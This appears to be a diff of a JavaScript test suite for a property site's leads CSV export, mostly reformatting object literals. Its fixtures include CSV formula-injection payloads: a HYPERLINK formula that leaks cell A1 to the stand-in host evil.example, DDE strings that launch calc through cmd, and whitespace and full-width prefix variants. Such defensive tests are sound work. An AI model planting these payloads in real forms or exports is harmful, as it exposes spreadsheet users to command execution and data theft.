@@ -46,8 +46,8 @@ const formulaStart = /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;
 const hostile = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
   '+32 475 12 34 56',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '  =1+1',
@@ -117,10 +117,34 @@ describe('the leads CSV', () => {
   const requests = [
     stored(
       'contact-appointment',
-      { propertyId: listing.id, title: 'ms', firstName: '=HYPERLINK("http://evil.example","Marie")', lastName: '@Dubois', email: 'marie@example.be', phone: '+32 475 12 34 56', slotId: slot.ID, remark: '\u001b[2J-1+1\nthanks', privacy: true },
+      {
+        propertyId: listing.id,
+        title: 'ms',
+        firstName: '=HYPERLINK("http://evil.example","Marie")',
+        lastName: '@Dubois',
+        email: 'marie@example.be',
+        phone: '+32 475 12 34 56',
+        slotId: slot.ID,
+        remark: '\u001b[2J-1+1\nthanks',
+        privacy: true,
+      },
       { property_id: listing.id, source: '=cmd|"/C calc"!A0' },
     ),
-    stored('purchase-offer', { propertyId: listing.id, title: 'mr', firstName: 'Jean', lastName: 'Martin', email: 'jean@example.be', phone: '0475 00 00 00', personBFirstName: 'Anne', personBLastName: 'Martin', amount: 250000 }, { property_id: listing.id }),
+    stored(
+      'purchase-offer',
+      {
+        propertyId: listing.id,
+        title: 'mr',
+        firstName: 'Jean',
+        lastName: 'Martin',
+        email: 'jean@example.be',
+        phone: '0475 00 00 00',
+        personBFirstName: 'Anne',
+        personBLastName: 'Martin',
+        amount: 250000,
+      },
+      { property_id: listing.id },
+    ),
     stored('demand-register', { title: 'mr', firstName: 'Luc', lastName: 'Peeters', email: 'luc@example.be', phone: '0475 11 11 11', goal: 'sale', passwordHash: 'scrypt$131072$8$1$salt$hash' }),
   ];
   const delivery = deliveryByRequest([
@@ -204,7 +228,14 @@ describe.each(databases)('npm run leads on $name', (database) => {
         payload: { propertyId: listing.id, title: 'ms', firstName: '=Marie', lastName: 'Dubois', email: 'marie@example.be', phone: '0475 12 34 56', remark: 'Encore libre ?', privacy: true },
         jobs: ['agency-mail', 'visitor-mail'],
       });
-      await keep(site, { form: 'site-contact', lang: 'nl', email: 'jan@example.be', name: 'Jan Peeters', payload: { firstName: 'Jan', lastName: 'Peeters', email: 'jan@example.be', remark: 'Dag' }, jobs: ['agency-mail'] });
+      await keep(site, {
+        form: 'site-contact',
+        lang: 'nl',
+        email: 'jan@example.be',
+        name: 'Jan Peeters',
+        payload: { firstName: 'Jan', lastName: 'Peeters', email: 'jan@example.be', remark: 'Dag' },
+        jobs: ['agency-mail'],
+      });
       // The agency's copy of the first request is sent; its confirmation to the visitor waits.
       const [sent] = await claimDueJobs(site, { limit: 1, leaseMs: 60_000, requestId: offer, kinds: ['agency-mail'] });
       await markDelivered(site, sent!.id);
